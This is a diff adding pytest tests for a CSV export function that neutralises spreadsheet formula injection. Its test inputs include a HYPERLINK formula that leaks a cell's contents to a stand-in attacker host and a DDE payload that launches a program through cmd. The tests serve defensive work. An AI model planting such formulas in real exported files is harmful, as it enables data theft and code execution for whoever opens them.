@@ -1,0 +1,30 @@
+"""What is exported for spreadsheets can be opened without fear."""
+
+import io
+
+import pandas as pd
+import pytest
+
+from skerry.spreadsheet import to_csv
+
+ATTACK = '=HYPERLINK("http://evil.example?"&A1)'
+
+
+@pytest.mark.parametrize(
+    "text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]
+)
+def test_a_text_is_no_formula(text):
+    """A plug-in's name or a label may be anything; a spreadsheet would compute it."""
+    frame = pd.DataFrame({"name": [text, "two islands"], "value": [0.5, -0.5]})
+    read = pd.read_csv(io.BytesIO(to_csv(frame)))
+    told = text.replace("\r", "\n")
+    assert list(read["name"]) == [f"'{told}", "two islands"]
+
+
+def test_numbers_stay_numbers():
+    frame = pd.DataFrame({"a": [-1, 2], "b": [-1e-300, float("nan")], "c": ["-0.5", "x"]})
+    assert to_csv(frame) == b"a,b,c\n-1,-1e-300,-0.5\n2,,x\n"
+
+
+def test_a_heading_is_no_formula_either():
+    assert to_csv(pd.DataFrame({"=1+1": [True]})) == b"'=1+1\nTrue\n"
